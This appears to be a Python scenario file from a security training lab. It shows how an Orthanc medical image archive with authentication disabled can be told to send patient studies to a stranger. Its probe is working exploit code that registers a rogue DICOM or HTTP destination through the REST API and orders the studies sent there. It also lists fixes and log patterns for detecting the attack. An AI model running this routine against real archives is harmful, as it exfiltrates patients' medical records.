"""The archive sends its images wherever a stranger tells it to.

The intruder downloads nothing. The archive is told of a new “modality”, and sends patients there by itself.
"""

from __future__ import annotations

import time

from lab import references as ref
from lab.clients.live import LiveSite
from lab.clients.patience import unhurried
from lab.clients.receiver import Received, receiver, web_receiver
from lab.i18n import t, tn
from lab.model import NotChecked, Severity, Verdict
from lab.probing.repairs import NO_REMOTE_ACCESS, deny_outside
from lab.probing.web import Attack, Loot, Visitor, attempt, records, ways
from lab.sandbox.protocol import Log
from lab.scenario import Fix, Group, Outcome, Scenario, Trace
from lab.site.zones import Door

SCENARIO = Scenario(
    id="rest-exfil",
    title=t("The archive sends its images wherever a stranger tells it to"),
    group=Group.WEB,
    severity=Severity.CRITICAL,
    minutes=35,
    roles=(t("PACS administrator"), t("network administrator"), t("data protection officer")),
    story=t(
        "While two archives were being merged, nobody wanted to type passwords into every script, and authentication was switched off for "
        "the week. The archive takes orders from anybody since, sending included."
    ),
    misconfiguration={"orthanc": {"AuthenticationEnabled": False}},
    also=("http-no-auth", "open-viewer", "outdated", "version-disclosure"),
    hints=(
        t("Declare yourself as a destination: PUT /modalities/… Then ask the archive to send a study there."),
        t("Two questions are not asked: who are you, and may you give orders?"),
        t('Ask both again: {{"orthanc": {{"AuthenticationEnabled": true}}, "filters": {{"roles": true}}}}.'),
    ),
    fixes=(
        deny_outside("/modalities"),
        Fix(
            "accounts-without-roles",
            t("Ask for an account, and let every account do everything"),
            {"orthanc": {"AuthenticationEnabled": True}, "filters": {"roles": False}},
            Outcome.STILL_OPEN,
            t("The stranger now needs a password, any password: a doctor's is enough to have everything sent away."),
        ),
        Fix(
            "authentication",
            t("Ask for an account, and let only administrators give orders"),
            {"orthanc": {"AuthenticationEnabled": True}, "filters": {"roles": True}},
            Outcome.REPAIRED,
            t("Without an account nothing answers, and a doctor's account reads but declares no destination."),
        ),
        NO_REMOTE_ACCESS,
    ),
    traces=(
        Trace(
            Log.ACCESS,
            "default",
            r'^{intruder} - - .*"POST /modalities/collector/store',
            t(
                "The gateway's access log has the order. The images themselves leave by DICOM, past the gateway: no line shows how much went."
            ),
        ),
        Trace(
            Log.ORTHANC,
            "verbose",
            r"\(http\) PUT /modalities/collector",
            t("With --verbose the new destination is there by its name, without the address that stands behind it."),
        ),
    ),
    references=(ref.CWE_918, ref.T1020, ref.BOOK_SECURITY),
    alone=True,
)

NAME, TITLE, SECONDS = "collector", "COLLECTOR", 2.0
KINDS = ("modalities", "peers")
"""Whom the archive sends to: machines that speak DICOM, and other archives over HTTP. Who is refused the one tries the other."""
_ENDED = {"Success", "Failure"}


def probe(site: LiveSite) -> Verdict:
    """Without an account, then with a doctor's stolen password: have a study sent to a receiver that stands in the clinic's network.

    Where the sandbox lets the archive connect to nobody (native), the accepted order and its attempt to connect are the evidence.
    """
    tries = ways(site, "doctor", stations=("intruder", "visitor"))
    return attempt(site, tries, _ordering(site), t("The archive takes no order to send images."))


def _ordering(site: LiveSite) -> Attack:
    def order(visitor: Visitor) -> Loot | NotChecked | None:
        kinds = (_order(site, visitor, kind) for kind in KINDS)
        return next((came for came in kinds if came is not None), None)

    return order


def _order(site: LiveSite, visitor: Visitor, kind: str) -> Loot | NotChecked | None:
    collector = site.station("visitor")
    if not _declared(visitor, kind, Received(collector.address, Door.DICOM.port)):
        return None
    try:
        with _RECEIVERS[kind](site.network, collector, TITLE) as inbox:
            return _sent(visitor, kind, inbox)
    except OSError as error:
        return NotChecked(t("The receiver could not be set up: {reason}.", reason=error))
    finally:
        with unhurried():
            visitor.ask("DELETE", f"/{kind}/{NAME}")


_RECEIVERS = {"modalities": receiver, "peers": web_receiver}


def _declared(visitor: Visitor, kind: str, inbox: Received) -> bool:
    machine = {"AET": TITLE, "Host": inbox.address, "Port": inbox.port}
    destination = machine if kind == "modalities" else {"Url": f"http://{inbox.address}:{inbox.port}/"}
    return visitor.ask("PUT", f"/{kind}/{NAME}", json=destination).status_code == 200


def _sent(visitor: Visitor, kind: str, inbox: Received) -> Loot | NotChecked | None:
    listed = visitor.get("/studies?since=0&limit=1")
    studies = listed.json() if listed.status_code == 200 else []
    if not studies:
        return NotChecked(t("There is no study in the archive that could be sent."))
    _declared(visitor, kind, inbox)
    order = visitor.ask("POST", f"/{kind}/{NAME}/store", json={"Resources": studies, "Synchronous": False})
    if order.status_code != 200:
        return None
    _await(visitor, order.json()["Path"])
    visitor.steps.append(f"    {TITLE}@{inbox.address}:{inbox.port}, images received: {len(inbox.instances)}")
    return _loot(visitor, len(inbox.instances))


def _await(visitor: Visitor, job: str) -> None:
    """Wait until the job has ended, or a little; note how."""
    deadline = time.monotonic() + SECONDS
    while time.monotonic() < deadline:
        state = visitor.client.get(job, auth=visitor.account).json()
        if state["State"] in _ENDED:
            break
        time.sleep(0.05)
    visitor.steps.append(f"    {job}: {state['State']} {state.get('ErrorDetails', '')}".rstrip())


def _loot(visitor: Visitor, received: int) -> Loot:
    exposure = records(visitor)
    count = exposure.patients if exposure else 1
    if received:
        return Loot(
            tn(
                "The archive has sent a study away; it would send all that it has of one patient.",
                "The archive has sent a study away; it would send all that it has of {n} patients.",
                count,
            ),
            exposure,
        )
    return Loot(
        tn(
            "The archive has taken the order and tried to send; it would send all that it has of one patient. Only the sandbox has no way out.",
            "The archive has taken the order and tried to send; it would send all that it has of {n} patients. Only the sandbox has no way out.",
            count,
        ),
        exposure,
    )
